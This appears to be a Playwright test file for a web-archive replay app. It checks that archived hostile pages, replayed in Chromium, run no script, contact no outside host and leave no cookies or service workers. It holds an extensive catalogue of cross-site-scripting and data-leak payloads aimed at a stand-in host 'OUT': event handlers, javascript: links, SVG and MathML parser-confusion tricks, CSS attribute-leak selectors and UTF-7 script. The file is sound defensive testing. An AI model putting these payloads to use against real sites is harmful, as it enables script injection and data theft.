"""Hostile pages replayed in Debian's Chromium: nothing of theirs runs, nothing is asked of anybody, nothing is kept in
the browser. A trap listens for whoever calls the web; `HOSTILE` numbers are those of the notes on hostile inputs."""

from __future__ import annotations

import os
import runpy
import socket
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from werkzeug.serving import make_server

from newsarchive.config import Config
from newsarchive.replay.addresses import Origins
from newsarchive.replay.app import create_replay
from newsarchive.replay.origins import place_origins
from newsarchive.views.library import EXTENSION
from newsarchive.web import create_app

replay_archive = SimpleNamespace(**runpy.run_path(str(Path(__file__).with_name("replay_archive.py"))))
STAMP, SITE = replay_archive.STAMP, replay_archive.SITE

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--host-resolver-rules=MAP out.test 127.0.0.1",
)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not CHROMIUM.exists() and os.environ.get("CI") != "true", reason=f"there is no {CHROMIUM}"
    ),
]

RAN = "new Image().src='//OUT/ran?'+Math.random();document.title='ran';document.cookie='ran=1'"

HEADS = {
    "script": f"<script>{RAN}</script><script src=//OUT/x.js></script><script type=module src=//OUT/m.js></script>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://OUT/'>",
    "cookie": "<meta http-equiv=Set-Cookie content='meta=1'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='script-src *; report-uri http://OUT/r'>",
    "base": "<base href='http://OUT/'><link rel=stylesheet href=based.css>",
    "hints": "".join(
        f"<link rel='{rel}' href='http://OUT/{rel}' as=script crossorigin>"
        for rel in ("preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "prerender", "manifest",
                    "icon", "apple-touch-icon", "alternate stylesheet", "next", "pingback", "import", "search")
    ),
    "speculation": "<script type=speculationrules>{'prefetch':[{'urls':['http://OUT/s']}]}</script>",
    "sheet": "<link rel=stylesheet href=http://OUT/l.css><style>@import 'http://OUT/i.css';@import url(//OUT/j.css);"
    "@font-face{font-family:f;src:url(//OUT/f.woff2)}body{font-family:f;background:u\\72l(http://OUT/b.png);"
    "cursor:url(//OUT/c.cur),auto;list-style-image:url('//OUT/li.png')}"
    "p::after{content:image-set('//OUT/is.png' 1x)}input[value^=a]{background:url(//OUT/leak-a)}"
    ":root{--u:url(//OUT/var.png)}b{background:var(--u)}</style>",
    "unclosed": "<style>/*</style><script>" + RAN + "</script><!--*/",
}  # fmt: skip
BODIES = {
    "handlers": f"<img src=x onerror=\"{RAN}\"><body onload=\"{RAN}\"><svg onload=\"{RAN}\"><details open ontoggle=\"{RAN}\">"
    f"<video><source onerror=\"{RAN}\"></video><input autofocus onfocus=\"{RAN}\"><marquee onstart=\"{RAN}\">",
    "links": f"<a id=js href=\"javascript:{RAN}\">js</a><a id=tab href=\" java&#10;script:{RAN}\" target=_blank>js</a>"
    "<a id=data href='data:text/html,<script>1</script>'>data</a><a id=away href='http://OUT/away' ping=http://OUT/ping>away</a>"
    "<map name=m><area href='http://OUT/area'></map>",
    "svg": f"<svg><script>{RAN}</script><script href=//OUT/s.js /><image href=//OUT/i.png /><use href='//OUT/u.svg#a'/>"
    "<image><set attributeName=href to=http://OUT/set.png /></image><feImage href=//OUT/fe.png />"
    "<style>@import '//OUT/svg.css';<img src=//OUT/breakout.png></style><rect fill='url(//OUT/fill#a)' filter='url(//OUT/f#a)'/>"
    f"<foreignObject><iframe src=\"javascript:{RAN}\"></iframe></foreignObject>"
    f"<a href=\"javascript:{RAN}\"><text y=20 id=svgjs>svg</text></a></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RAN}&gt;\">"
    f"<maction actiontype=statusline xlink:href=\"javascript:{RAN}\">m</maction></math>",
    "frames": f"<iframe srcdoc=\"<script>{RAN}</script>\"></iframe><iframe src=http://OUT/frame></iframe>"
    f"<iframe src=\"javascript:{RAN}\"></iframe><frameset><frame src=http://OUT/fs></frameset><portal src=http://OUT/portal>"
    "</portal><fencedframe></fencedframe>",
    "plugins": "<object data=http://OUT/o.swf type=application/x-shockwave-flash></object><embed src=http://OUT/e.pdf>"
    f"<object data=\"data:text/html,<script>{RAN}</script>\"></object><applet code=X archive=http://OUT/a.jar></applet>",
    "media": "<img src=http://OUT/1.png srcset='http://OUT/2.png 1x, //OUT/3.png 2x' lowsrc=http://OUT/low.png>"
    "<video src=http://OUT/v.mp4 poster=http://OUT/p.jpg autoplay><track src=http://OUT/t.vtt default></video>"
    "<audio src=http://OUT/a.mp3 autoplay></audio><table background=http://OUT/bg.png><td background=//OUT/td.png></table>"
    "<input type=image src=http://OUT/in.png><picture><source srcset=//OUT/ps.png><img src=//OUT/pi.png></picture>"
    "<body background=http://OUT/body.png><img src='https:OUT/odd'><img src='\\\\OUT\\back.png'>",
    "form": "<form id=f action=http://OUT/form method=post><input name=a value=abc><button id=send>send</button></form>"
    "<button id=other form=f formaction=http://OUT/formaction>other</button>"
    "<form action='javascript:alert(1)'><input type=submit id=jsform></form><isindex action=http://OUT/is>",
    "style": "<div style=\"background:url(//OUT/style.png);width:9px;height:9px\">x</div>"
    "<p style='list-style:u\\r\\l(//OUT/x)'>y</p><div style='background-image:\\75\\72\\6c(//OUT/esc.png)'>z</div>",
    "worker": "<script>navigator.serviceWorker.register('/web/sw.js');localStorage.x=1;new Worker('/w.js')</script>",
    "confusion": f"<noscript><p title=\"</noscript><img src=x onerror={RAN}>\"></noscript><xmp><p title='</xmp><script>{RAN}</script>'>"
    f"</xmp><textarea></textarea><img src=x onerror=\"{RAN}\"><select><template shadowrootmode=open><script>{RAN}</script>"
    f"</template></select><![CDATA[<script>{RAN}</script>]]><!--><script>{RAN}</script>--><plaintext><script>{RAN}</script>",
}  # fmt: skip


class Trap:
    """The rest of the web: answers nobody, and remembers who called."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.calls: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            with caller:
                self.calls.append(b"somebody called")
                caller.settimeout(0.5)
                with suppress(OSError):
                    self.calls.append(caller.recv(200))

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


class Replayed:
    """An archive with hostile pages, its two origins, and a browser that goes there."""

    def __init__(self, home: Path, browser: Browser) -> None:
        self.archive = replay_archive.Archive(Config(home))
        self.browser = browser
        self.trap = Trap()
        self.library = None
        main = create_app(self.archive.config)
        self.library = main.extensions[EXTENSION]
        replay = create_replay(self.archive.config, self.archive.store)
        self._servers = [make_server("127.0.0.1", 0, app, threaded=True) for app in (main, replay)]
        ports = [server.server_port for server in self._servers]
        for app in (main, replay):
            place_origins(app, Origins(*ports))
        self.main, self.replay = (f"http://127.0.0.1:{port}" for port in ports)
        self._threads = [threading.Thread(target=server.serve_forever) for server in self._servers]
        for thread in self._threads:
            thread.start()

    def keep(self, name: str, text: str | bytes, media: str = "text/html; charset=utf-8", **more: Any) -> str:
        """Capture something; returns its address on the replay origin."""
        out = f"out.test:{self.trap.port}"
        body = text.replace("OUT", out) if isinstance(text, str) else text.replace(b"OUT", out.encode())
        self.archive.keep(SITE + name, body, media, **more)
        return f"{self.replay}/web/{STAMP}/{SITE}{name}"

    def close(self) -> None:
        for server, thread in zip(self._servers, self._threads, strict=True):
            server.shutdown()
            thread.join()
            server.server_close()
        self.library.close()
        self.archive.close()
        self.trap.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def replayed(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Replayed]:
    with closing(Replayed(tmp_path_factory.mktemp("replayed"), browser)) as replayed:
        yield replayed


class Visit:
    """A window of a fresh browser that remembers whom it asked."""

    def __init__(self, replayed: Replayed) -> None:
        self.replayed = replayed
        self.context: BrowserContext = replayed.browser.new_context(accept_downloads=True)
        self.asked: list[str] = []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.page: Page = self.context.new_page()
        self.page.set_default_timeout(15_000)

    def go(self, url: str) -> Page:
        self.page.goto(url)
        self.page.wait_for_load_state("load")
        return self.page

    def assert_nothing_happened(self) -> None:
        """Nothing ran, nobody else was asked, nothing was left in the browser."""
        self.page.wait_for_timeout(30)
        ours = (self.replayed.main + "/", self.replayed.replay + "/", "data:image/")
        assert [url for url in self.asked if not url.startswith(ours)] == []
        assert self.replayed.trap.calls == []
        assert self.context.cookies() == []
        assert self.context.service_workers == []
        assert self.page.title() != "ran"
        assert len(self.context.pages) == 1
        for frame in self.page.frames:
            assert frame.url.startswith(self.replayed.replay)


@pytest.fixture
def visit(replayed: Replayed) -> Iterator[Visit]:
    visit = Visit(replayed)
    yield visit
    visit.context.close()


def test_hostile_63_nothing_of_an_archived_page_runs_or_asks(visit: Visit) -> None:
    sent = (
        ("set-cookie", "sent=1"),
        ("link", "<http://OUT/h>; rel=preload; as=image"),
        ("refresh", "0;url=//OUT/"),
    )
    for number, name in enumerate((*HEADS, *BODIES)):
        head, body = HEADS.get(name, ""), BODIES.get(name, "")
        text = f"<!doctype html><html><head><title>Kept</title>{head}</head><body>{body}<p>The end"
        place = visit.replayed.keep(name, text, headers=sent)
        if number % 5:
            visit.go(place.replace(f"/{STAMP}/", f"/{STAMP}if_/"))
            shown = visit.page.locator("body")
        else:
            shown = visit.go(place).locator("iframe").content_frame.locator("body")
        if name != "unclosed":
            expect(shown).to_contain_text("The end")
        visit.assert_nothing_happened()


def test_hostile_63_clicks_lead_into_the_archive_or_nowhere(visit: Visit) -> None:
    text = (
        f"<title>Kept</title>{BODIES['links']}{BODIES['form']}{BODIES['svg']}<a id=on href='/clicked'>on</a>"
    )
    place = visit.replayed.keep("clicks", text)
    visit.replayed.keep("clicked", "<title>Clicked</title><p>There")
    frame = visit.go(place).locator("iframe").content_frame
    for name in ("js", "tab", "data", "send", "other", "jsform", "svgjs"):
        frame.locator(f"#{name}").dispatch_event("click")
        frame.locator(f"#{name}").click(force=True, no_wait_after=True)
    visit.assert_nothing_happened()
    frame.locator("#on").click()
    expect(visit.page).to_have_title("Clicked – as it was on 23 November 2026")
    assert visit.page.url == f"{visit.replayed.replay}/web/{STAMP}/{SITE}clicked"
    visit.go(place).locator("iframe").content_frame.locator("#away").click()
    expect(visit.page.get_by_role("heading", level=1)).to_have_text("This page is not in the archive")
    visit.assert_nothing_happened()


KINDS = (
    ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RAN}</script><image href='http://OUT/i.png'/></svg>"),
    ("application/xml", f"<?xml-stylesheet type='text/xsl' href='http://OUT/x.xsl'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{RAN}</h:script></x>"),
    ("application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RAN}</script><p>x</p></html>"),
    ("text/plain", f"<html><script>{RAN}</script>"),
    ("application/octet-stream", f"<html><script>{RAN}</script>"),
    ("image/png", f"<html><script>{RAN}</script>"),
    ("application/pdf", "%PDF-1.7 OUT"),
    ("text/html; charset=utf-7", "+ADw-script+AD4-x+ADw-/script+AD4-"),
    ("multipart/related", f"<html><script>{RAN}</script>"),
    ("application/x-mixed", f"<html><script>{RAN}</script>"),
    ("text/cache-manifest", "CACHE MANIFEST\nhttp://OUT/"),
    ("message/rfc822", f"Content-Type: text/html\n\n<script>{RAN}</script>"),
)  # fmt: skip


def test_hostile_63_whatever_a_record_calls_itself_nothing_runs(visit: Visit) -> None:
    for number, (media, body) in enumerate(KINDS):
        place = visit.replayed.keep(f"kind-{number}", body, media)
        visit.go(place if number % 4 else place.replace(f"/{STAMP}/", f"/{STAMP}if_/"))
        visit.assert_nothing_happened()


def test_hostile_63_a_picture_that_is_a_document_runs_nothing_where_it_is_opened_itself(visit: Visit) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RAN}</script><image href='http://OUT/i.png'/></svg>"
    place = visit.replayed.keep("part.svg", svg, "image/svg+xml")
    page = visit.go(place)
    source = page.locator("iframe").content_frame.locator("img").get_attribute("src")
    visit.go(visit.replayed.replay + str(source))
    visit.assert_nothing_happened()


def test_hostile_63_bytes_are_saved_and_never_opened(visit: Visit) -> None:
    place = visit.replayed.keep("bytes", f"<script>{RAN}</script>")
    page = visit.go(place)
    with page.expect_download() as saved:
        page.get_by_role("link", name="Bytes").click()
    assert saved.value.suggested_filename == f"{STAMP}-bytes"
    visit.assert_nothing_happened()


def test_a_page_is_drawn_with_its_style_picture_and_font_below_the_bar(visit: Visit) -> None:
    text = (
        "<link rel=stylesheet href=ours.css><title>Drawn</title><body><h1>Drawn</h1>"
        "<img src=ours.svg width=20 height=20 alt=x><style>h1{margin:7px}</style><p style='padding:9px'>p"
    )
    visit.replayed.keep("ours.css", "body{background:rgb(1,2,3) url(ours.svg)}", "text/css")
    svg = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='9' height='9'/></svg>"
    visit.replayed.keep("ours.svg", svg, "image/svg+xml")
    page = visit.go(visit.replayed.keep("drawn", text))
    frame = page.locator("iframe").content_frame
    expect(frame.locator("body")).to_have_css("background-color", "rgb(1, 2, 3)")
    expect(frame.locator("h1")).to_have_css("margin", "7px")
    expect(frame.locator("p")).to_have_css("padding", "9px")
    assert frame.locator("img").evaluate("picture => picture.complete && picture.naturalWidth") == 9
    expect(page.locator(".bar")).to_contain_text("As it was on 23 November 2026, 12:00 UTC")
    visit.assert_nothing_happened()


def test_hostile_63_a_page_cannot_reach_the_bar(visit: Visit) -> None:
    text = (
        "<style>*{display:none!important;position:fixed;z-index:2147483647}"
        ".bar,.when,html::before{display:none;content:'forged';top:0}</style><p>x"
    )
    page = visit.go(visit.replayed.keep("reach", text))
    expect(page.locator(".bar .when")).to_be_visible()
    top = page.locator("iframe").bounding_box()
    bar = page.locator(".bar").bounding_box()
    assert top is not None
    assert bar is not None
    assert top["y"] >= bar["y"] + bar["height"]


def test_hostile_63_no_other_site_can_show_or_probe_archived_pages(visit: Visit) -> None:
    visit.replayed.keep("probed.png", b"\x89PNG\r\n\x1a\n", "image/png")
    place = visit.replayed.keep("probed", "<p>Secret")
    visit.page.route("http://evil.test/", lambda route: route.fulfill(body=(
        f"<iframe src='{place}'></iframe><iframe src='{place.replace(STAMP, STAMP + 'if_')}'></iframe>"
        f"<img src='{place}.png'><script>onmessage=1</script>"), content_type="text/html"))  # fmt: skip
    page = visit.go("http://evil.test/")
    page.wait_for_timeout(300)
    assert page.locator("img").evaluate("picture => picture.naturalWidth") == 0
    for frame in page.frames[1:]:
        assert "Secret" not in frame.content()
